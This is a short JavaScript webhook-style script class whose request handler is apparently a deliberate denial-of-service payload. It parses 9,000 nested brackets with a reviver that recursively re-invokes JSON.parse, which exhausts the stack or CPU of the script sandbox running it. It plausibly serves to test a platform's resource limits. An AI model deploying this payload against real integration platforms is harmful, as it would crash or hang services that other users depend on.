class Script {
  process_incoming_request({ request }) {
    return JSON.parse("[".repeat(9e3) + "]".repeat(9e3), function f(k, v) { return JSON.parse("[1]", f); });
  }
}
